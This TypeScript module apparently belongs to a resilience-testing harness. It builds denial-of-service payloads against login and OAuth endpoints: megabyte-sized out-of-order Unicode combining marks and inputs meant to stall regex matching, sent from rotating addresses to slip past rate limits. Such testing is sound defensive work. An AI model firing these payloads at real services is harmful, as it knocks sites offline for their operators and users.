// Texts that are slow to read: marks in the wrong order, and food for patterns that try every way.
import { send, inSequence, type Attack, type Target } from './target.ts'

/** Where a text of anybody's is read, and in which field. */
const open = [
  ['/login/check_user', 'user_email'],
  ['/oauth/authorize', 'username'],
  ['/oauth/authorize', 'password'],
  ['/oauth/token', 'code'],
  ['/login/regi_user', 'user_name'],
  ['/login/find_id', 'user_name'],
  ['/login/check_user_invite', 'user_email'],
  ['/login/regi_user_invite', 'use_name'],
] as const
/** Filled to a size in bytes. */
function filled(text: string, bytes: number, before = '', after = ''): string {
  return before + text.repeat(Math.floor((bytes - Buffer.byteLength(before + after)) / Buffer.byteLength(text))) + after
}
/** Normalising puts marks in order, one at a time past all before it: a million of them in the wrong order is a billion steps. */
const marks = (bytes: number) => filled('\u0301\u0323', bytes, 'a')

/** Each field in turn, from an address of its own, so that no limit answers for the text. */
const toEach = (name: string, text: (room: number) => string): Attack => ({
  name,
  room: 'marks',
  ready(site: Target) {
    const bodies = open.map(([path, field]) => ({ path, body: `${field}=${text(Buffer.byteLength(field) + 1)}` }))
    return (tally, signal) =>
      inSequence(bodies, signal, async (each, at) =>
        tally.add((await send(site, { ...each, from: `127.0.1.${at + 1}`, signal })).said),
      )
  },
})

const kb = 1024
const foods: readonly [path: string, body: string][] = [
  ['/login/check_user', `user_email=${filled('a', 900 * kb)}`],
  ['/login/check_user', `user_email=a@${filled('a.', 900 * kb)}`],
  ['/login/check_user', `user_email=a@${filled('a-', 900 * kb)}`],
  ['/login/check_user', `user_email=${filled('@', 900 * kb)}`],
  ['/login/check_user', `user_email=x${filled('+', 900 * kb)}x`],
  ['/login/find_id', `user_name=x${filled('%20%09', 900 * kb)}x&phone=1&cert_code=1`],
  ['/login/find_id', `user_name=x&cert_code=1&phone=${filled('0-', 900 * kb)}x`],
  ['/login/find_id', `user_name=x&cert_code=1&phone=%2B${filled('(', 900 * kb)}`],
  ['/login/regi_user', `user_name=${filled('\u200b', 900 * kb)}x`],
  ['/oauth/authorize', `username=a@b.example&password=${filled('aA1!', 900 * kb)}`],
  ['/oauth/authorize', `redirect_uri=${filled('http://', 900 * kb)}`],
  ['/oauth/authorize', `code_challenge=${filled('a', 900 * kb)}`],
  ['/oauth/authorize', filled('%41', 1000 * kb)],
  ['/oauth/authorize', filled('&', 1000 * kb)],
  ['/oauth/authorize', Array.from({ length: 150_000 }, (_, at) => `${at.toString(36)}=`).join('&')],
  ['/oauth/authorize', filled('\ud83d\ude00', 1000 * kb)],
]
const headers: readonly Record<string, string>[] = [
  { 'accept-language': filled('ko,', 12 * kb) },
  { 'accept-language': filled('ko;q=0.1,', 12 * kb) },
  { 'user-agent': filled(' ', 12 * kb, 'a', 'a') },
  { 'x-forwarded-for': filled('1,', 12 * kb) },
  { authorization: `Bearer ${filled('=', 12 * kb)}` },
  { origin: filled('http://a', 12 * kb) },
]

export const texts: Attack[] = [
  toEach('marks in the wrong order, 1 MiB', (room) => marks(1024 * kb - room)),
  toEach('marks in the wrong order, 508 KiB', (room) => marks(508 * kb - room)),
  {
    name: 'food for slow patterns, in fields and headers',
    room: 'food',
    ready: (site) => async (tally, signal) => {
      await inSequence(foods, signal, async ([path, body], at) =>
        tally.add((await send(site, { path, body, from: `127.0.2.${at + 1}`, signal })).said),
      )
      await inSequence(headers, signal, async (each, at) =>
        tally.add(
          (
            await send(site, {
              path: '/oauth/authorize',
              body: 'username=a',
              headers: each,
              from: `127.0.2.${at + 50}`,
              signal,
            })
          ).said,
        ),
      )
    },
  },
]
